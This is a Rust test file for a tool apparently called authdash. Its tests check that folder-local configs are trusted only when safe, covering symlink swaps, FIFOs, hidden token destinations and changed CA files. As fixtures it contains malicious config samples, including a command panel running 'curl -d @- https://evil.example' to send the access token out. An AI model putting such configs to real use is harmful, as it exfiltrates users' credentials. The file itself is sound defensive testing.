//! Attacks on rule 2 (a config found in the current folder is read only
//! once trusted): symlinks swapped in after trust, a FIFO in place of the
//! file, a trust prompt that hides where the tokens would go or which
//! programs run with them, a `ca_file` changed after trust, and a trust
//! record older than what it would now cover.

use std::path::PathBuf;
use std::time::Duration;

use authdash::config::trust::{self, ConfigOrigin, LoadError, TrustError, Why};

const ISSUER: &str = "https://idp.example.com/.well-known/openid-configuration";

fn config_text(extra: &str) -> String {
    format!("[auth]\nclient_id = \"cid\"\nserver_metadata_url = \"{ISSUER}\"\n{extra}")
}

struct Folder {
    tmp: tempfile::TempDir,
}

impl Folder {
    fn new() -> Self {
        let tmp = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(tmp.path().join("project").join(".streamlit")).unwrap();
        Self { tmp }
    }

    /// The cloned project's folder.
    fn project(&self) -> PathBuf {
        self.tmp.path().join("project")
    }

    fn config(&self) -> PathBuf {
        self.project().join(".streamlit").join("secrets.toml")
    }

    /// The config: a provider at [`ISSUER`], then `extra` lines.
    fn write(&self, extra: &str) {
        std::fs::write(self.config(), config_text(extra)).unwrap();
    }

    fn data(&self) -> PathBuf {
        self.tmp.path().join("data").join("authdash")
    }

    fn elsewhere(&self, name: &str, text: &str) -> PathBuf {
        let path = self.tmp.path().join(name);
        std::fs::write(&path, text).unwrap();
        path
    }
}

fn refused(result: Result<String, TrustError>, what: &str) {
    match result {
        Err(TrustError::Untrusted(_)) => {}
        other => panic!("{what}: expected the file to be untrusted, got {other:?}"),
    }
}

fn load(f: &Folder) -> Result<authdash::config::Config, LoadError> {
    trust::load(
        ConfigOrigin::CurrentFolder,
        &f.config(),
        &f.data(),
        &|name| panic!("an environment variable ({name}) was read"),
    )
}

/// Trusted, then replaced by a symbolic link to another file: what is
/// read is not what was trusted.
#[cfg(unix)]
#[test]
fn attack_trusted_config_replaced_by_a_symlink_to_other_content() {
    let f = Folder::new();
    f.write("");
    trust::trust(&f.data(), &f.config(), false).expect("trusted");
    let evil = f.elsewhere(
        "evil.toml",
        &config_text("client_secret_env = \"HOME\"\n").replace("idp.example.com", "evil.example"),
    );
    std::fs::remove_file(f.config()).unwrap();
    std::os::unix::fs::symlink(&evil, f.config()).unwrap();
    refused(trust::check(&f.data(), &f.config()), "symlinked file");
    assert!(matches!(load(&f), Err(LoadError::Trust(_))));
}

/// Trusted, then its folder `.streamlit` replaced by a link to a folder
/// holding the very same text: another file, not trusted.
#[cfg(unix)]
#[test]
fn attack_streamlit_folder_swapped_for_a_symlink_after_trust() {
    let f = Folder::new();
    f.write("");
    trust::trust(&f.data(), &f.config(), false).expect("trusted");
    let other = f.tmp.path().join("other");
    std::fs::create_dir_all(&other).unwrap();
    std::fs::write(other.join("secrets.toml"), config_text("")).unwrap();
    let streamlit = f.config().parent().unwrap().to_owned();
    std::fs::remove_dir_all(&streamlit).unwrap();
    std::os::unix::fs::symlink(&other, &streamlit).unwrap();
    refused(trust::check(&f.data(), &f.config()), "symlinked folder");
    // Writable by an attacker later: a change there asks again.
    std::fs::write(
        other.join("secrets.toml"),
        config_text("").replace("idp", "evil"),
    )
    .unwrap();
    refused(trust::check(&f.data(), &f.config()), "changed");
}

/// The same bytes at another path are another file: a repository that
/// copies a trusted config gets no trust from it.
#[test]
fn attack_copy_of_a_trusted_config_in_another_folder() {
    let f = Folder::new();
    f.write("");
    trust::trust(&f.data(), &f.config(), false).expect("trusted");
    let copy = f.elsewhere("secrets.toml", &config_text(""));
    refused(trust::check(&f.data(), &copy), "copy");
}

/// A FIFO in place of `secrets.toml` (an unpacked archive can hold one):
/// authdash must not hang reading it, waiting for a writer that never
/// comes.
#[cfg(unix)]
#[test]
fn attack_fifo_in_place_of_the_config_does_not_hang() {
    let f = Folder::new();
    let path = f.config();
    let c = std::ffi::CString::new(path.as_os_str().to_str().unwrap()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0, "mkfifo");
    let data = f.data();
    let (tx, rx) = std::sync::mpsc::channel();
    let probe = path.clone();
    std::thread::spawn(move || {
        let _ = tx.send(trust::check(&data, &probe).map(drop));
    });
    let result = rx.recv_timeout(Duration::from_secs(5));
    if result.is_err() {
        // Unblock the reader so the test process can end.
        let _ = std::fs::OpenOptions::new().write(true).open(&path);
    }
    let result = result.expect("checking a FIFO hung: authdash waits for a writer for ever");
    assert!(result.is_err(), "a FIFO is no config");
}

/// What a trusted config decides is not only where logins go: a panel's
/// `data_url` receives the access token. The message asking for trust
/// shows every place tokens would be sent, not only the issuers.
#[test]
fn attack_trust_prompt_hides_where_panels_send_the_access_token() {
    let f = Folder::new();
    f.write(
        "\n[[authdash.panels]]\nid = \"x\"\ntitle = \"Usage\"\n\
             data_url = \"https://collector.evil.example/{org_id}\"\n",
    );
    let message = match trust::check(&f.data(), &f.config()) {
        Err(e @ TrustError::Untrusted(_)) => e.to_string(),
        other => panic!("expected untrusted, got {other:?}"),
    };
    assert!(message.contains("idp.example.com"), "{message}");
    assert!(
        message.contains("collector.evil.example"),
        "the prompt does not say that the access token would go to the panel's host:\n{message}"
    );
}

/// The message refusing an untrusted `f.config()`.
fn refusal(f: &Folder) -> (trust::Untrusted, String) {
    match trust::check(&f.data(), &f.config()) {
        Err(TrustError::Untrusted(u)) => {
            let message = u.to_string();
            (*u, message)
        }
        other => panic!("expected untrusted, got {other:?}"),
    }
}

/// What `authdash trust` shows before it asks.
fn shown_by_trust(f: &Folder) -> String {
    trust::review(&f.config()).expect("read").to_string()
}

/// A panel in the long form, `source = { type = "http", url }`: the
/// refusal once showed only `data_url` panels, so this one sent alice's
/// token to an address she was never shown.
#[test]
fn attack_an_http_source_panel_sending_the_token_elsewhere_is_shown() {
    let f = Folder::new();
    let url = "https://collector.evil.example/{org_id}/{user_id}?panel={panel_id}";
    f.write(&format!(
        "\n[[authdash.panels]]\nid = \"usage\"\ntitle = \"Usage\"\n\
             source = {{ type = \"http\", url = \"{url}\", select = \"/x\" }}\n"
    ));
    let (_, message) = refusal(&f);
    assert!(
        message.contains(url),
        "the refusal hides where the token goes:\n{message}"
    );
    let shown = shown_by_trust(&f);
    assert!(shown.contains(url), "`authdash trust` hides it:\n{shown}");
}

/// A `command` panel: a local program that gets the access token. It is
/// named (absolute path, arguments, the variable holding the token) and
/// trusting the file needs `--allow-commands`.
#[test]
fn attack_a_command_panel_is_named_and_needs_allow_commands() {
    let f = Folder::new();
    f.write(
            "\n[[authdash.panels]]\nid = \"deploys\"\ntitle = \"Deploys\"\n\
             source = { type = \"command\", argv = [\"/bin/sh\", \"-c\", \"curl -d @- https://evil.example\", \"{org_name}\"], token_env = \"EXFIL_TOKEN\" }\n",
        );
    let (untrusted, message) = refusal(&f);
    for part in [
        "/bin/sh",
        "curl -d @- https://evil.example",
        "{org_name}",
        "$EXFIL_TOKEN",
    ] {
        assert!(message.contains(part), "{part} not shown:\n{message}");
    }
    assert!(
        message.contains("authdash trust --allow-commands"),
        "{message}"
    );
    assert!(untrusted.summary.expect("summarised").runs_programs());
    assert!(shown_by_trust(&f).contains("curl -d @- https://evil.example"));

    match trust::trust(&f.data(), &f.config(), false) {
        Err(e @ TrustError::CommandsNotAllowed { .. }) => {
            assert!(e.to_string().contains("--allow-commands"), "{e}")
        }
        other => panic!("trusted without --allow-commands: {other:?}"),
    }
    refused(trust::check(&f.data(), &f.config()), "not allowed");
    trust::trust(&f.data(), &f.config(), true).expect("trusted with --allow-commands");
    assert!(trust::check(&f.data(), &f.config()).is_ok());
}

/// A relative program (`./tools/report.sh`, or a bare name looked up in
/// PATH) runs whatever the cloned folder or the PATH holds under that
/// name: from a folder config it is refused, even with --allow-commands.
#[test]
fn attack_a_relative_program_path_is_refused() {
    for program in ["./tools/report.sh", "tools/report", "python3"] {
        let f = Folder::new();
        f.write(&format!(
            "\n[[authdash.panels]]\nid = \"r\"\ntitle = \"R\"\n\
                 source = {{ type = \"command\", argv = [\"{program}\"] }}\n"
        ));
        let (_, message) = refusal(&f);
        assert!(
            message.contains("not an absolute path"),
            "{program}: {message}"
        );
        assert!(
            !message.contains("if you trust it, run"),
            "{program}: {message}"
        );
        match trust::trust(&f.data(), &f.config(), true) {
            Err(TrustError::Refused { problems, .. }) => {
                assert!(problems[0].contains(program), "{problems:?}")
            }
            other => panic!("{program}: trusted: {other:?}"),
        }
        assert!(!f.data().exists(), "{program}: something was recorded");
    }
}

/// Every provider and `[authdash]` key that is not cosmetic is shown: each
/// decides where a login, the token or a secret goes, or what is trusted.
#[test]
fn attack_no_setting_that_matters_is_left_out_of_the_summary() {
    let f = Folder::new();
    std::fs::write(f.config().with_file_name("corp.pem"), "certificates").unwrap();
    f.write(
            "client_secret_env = \"VICTIM_SECRET\"\n\
             allow_hs256 = true\n\
             redirect_uri = \"http://127.0.0.1:8765/cb\"\n\
             post_logout_redirect_uri = \"http://127.0.0.1:8766/out\"\n\
             account_url = \"https://account.evil.example/\"\n\
             org_claims = \"propelauth\"\n\
             logout_everywhere_api_key_env = \"VICTIM_BACKEND_KEY\"\n\
             flow = \"device\"\n\
             ca_file = \"corp.pem\"\n\
             store_secret = \"a store secret, long enough to be one\"\n\
             label = \"Cosmetic label\"\n\
             client_kwargs = { audience = \"https://api.evil.example\", resource = \"urn:evil\", prompt = \"none\" }\n\
             [auth.claims]\nsource = \"id_token\"\n\
             [authdash]\ntheme = \"dark\"\nprovider_body_cap_mib = 16\n\
             exec_token_env = \"GH_TOKEN\"\nexec_org_env = \"GH_ORG\"\n",
        );
    let (_, message) = refusal(&f);
    for key in [
        "auth.client_secret_env = \"VICTIM_SECRET\"",
        "auth.allow_hs256 = true",
        "auth.redirect_uri = \"http://127.0.0.1:8765/cb\"",
        "auth.post_logout_redirect_uri = \"http://127.0.0.1:8766/out\"",
        "auth.account_url = \"https://account.evil.example/\"",
        "auth.org_claims = \"propelauth\"",
        "auth.claims.source = \"id_token\"",
        "auth.logout_everywhere_api_key_env = \"VICTIM_BACKEND_KEY\"",
        "auth.flow = \"device\"",
        "auth.ca_file = \"corp.pem\"",
        "auth.store_secret = (a secret",
        "auth.client_kwargs.audience = \"https://api.evil.example\"",
        "auth.client_kwargs.resource = \"urn:evil\"",
        "auth.client_kwargs.prompt = \"none\"",
        "authdash.provider_body_cap_mib = 16",
        "authdash.exec_token_env = \"GH_TOKEN\"",
        "authdash.exec_org_env = \"GH_ORG\"",
    ] {
        assert!(message.contains(key), "`{key}` not shown:\n{message}");
    }
    // The ca_file as the loader resolves it (beside the config), hashed.
    let beside = std::fs::canonicalize(f.config().with_file_name("corp.pem")).unwrap();
    assert!(
        message.contains(&format!("{} (sha256 ", beside.display())),
        "{message}"
    );
    assert!(
        !message.contains("a store secret, long enough"),
        "{message}"
    );
    assert!(!message.contains("Cosmetic label") && !message.contains("theme"));
}

/// A file that cannot be parsed whole (here a panel with a key authdash
/// does not know, after a valid `[auth]`) is refused, not shown in part:
/// a part could hide the rest.
#[test]
fn attack_a_file_that_cannot_be_summarised_whole_is_refused_not_shown_in_part() {
    let f = Folder::new();
    f.write(
            "\n[[authdash.panels]]\nid = \"x\"\ntitle = \"X\"\n\
             source = { type = \"http\", url = \"https://a.example/x\", also_to = \"https://evil.example\" }\n",
        );
    let (untrusted, message) = refusal(&f);
    assert!(untrusted.summary.is_err());
    assert!(message.contains("cannot be read whole"), "{message}");
    assert!(message.contains("also_to"), "the reason: {message}");
    assert!(!message.contains("It would log you in at"), "{message}");
    assert!(!message.contains("authdash trust "), "{message}");
    match trust::trust(&f.data(), &f.config(), true) {
        Err(TrustError::Unreadable { .. }) => {}
        other => panic!("trusted a file not read whole: {other:?}"),
    }
    assert!(!f.data().exists());
}

/// The `ca_file` a trusted config names is part of what was trusted (its
/// certificates decide which servers a login trusts): changed, swapped
/// for a link elsewhere, or gone, the config asks again.
#[test]
fn attack_a_ca_file_changed_after_trust_asks_again() {
    let f = Folder::new();
    let ca = f.config().with_file_name("corp.pem");
    std::fs::write(&ca, "the corporate CA").unwrap();
    f.write("ca_file = \"corp.pem\"\n");
    trust::trust(&f.data(), &f.config(), false).expect("trusted");
    assert!(trust::check(&f.data(), &f.config()).is_ok());
    assert!(load(&f).is_ok());

    std::fs::write(&ca, "the attacker's CA").unwrap();
    let (untrusted, message) = refusal(&f);
    assert!(matches!(untrusted.why, Why::CaFile { .. }), "{message}");
    assert!(
        message.contains("changed since you trusted it"),
        "{message}"
    );
    assert!(matches!(load(&f), Err(LoadError::Trust(_))));

    #[cfg(unix)]
    {
        std::fs::write(&ca, "the corporate CA").unwrap();
        assert!(trust::check(&f.data(), &f.config()).is_ok(), "restored");
        let evil = f.elsewhere("evil.pem", "the attacker's CA");
        std::fs::remove_file(&ca).unwrap();
        std::os::unix::fs::symlink(&evil, &ca).unwrap();
        refused(trust::check(&f.data(), &f.config()), "linked elsewhere");
    }

    std::fs::remove_file(&ca).unwrap();
    let (untrusted, message) = refusal(&f);
    assert!(matches!(untrusted.why, Why::CaFile { .. }), "{message}");
    assert!(message.contains("cannot be read"), "{message}");
}

/// A record written by an older authdash (version 1: path and hash only,
/// after a prompt that showed neither programs nor `ca_file`) still trusts
/// a config that has neither, and never one that has them: that one asks
/// again, saying why.
#[test]
fn attack_an_older_trust_record_never_trusts_wider() {
    use sha2::Digest as _;
    let write_v1_record = |f: &Folder, text: &str| {
        std::fs::write(f.config(), text).unwrap();
        let canonical = std::fs::canonicalize(f.config()).unwrap();
        let sha: String = sha2::Sha256::digest(text.as_bytes())
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        std::fs::create_dir_all(f.data()).unwrap();
        let list = f.data().join(trust::TRUST_FILE_NAME);
        std::fs::write(
            &list,
            serde_json::json!({
                "version": 1,
                "trusted": [{ "path": canonical, "sha256": sha }],
            })
            .to_string(),
        )
        .unwrap();
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt as _;
            std::fs::set_permissions(&list, std::fs::Permissions::from_mode(0o600)).unwrap();
        }
    };

    let plain = Folder::new();
    write_v1_record(&plain, &config_text(""));
    assert!(
        trust::check(&plain.data(), &plain.config()).is_ok(),
        "kept working"
    );

    for with_ca in [false, true] {
        let f = Folder::new();
        let extra = if with_ca {
            let ca = f.elsewhere("ca.pem", "a CA");
            format!("ca_file = \"{}\"\n", ca.display())
        } else {
            "\n[[authdash.panels]]\nid = \"c\"\ntitle = \"C\"\n\
             source = { type = \"command\", argv = [\"/bin/true\"] }\n"
                .to_owned()
        };
        write_v1_record(&f, &config_text(&extra));
        let (untrusted, message) = refusal(&f);
        assert_eq!(untrusted.why, Why::OlderRecord, "{message}");
        assert!(message.contains("older authdash"), "{message}");
    }
}

mod after;
mod summary;
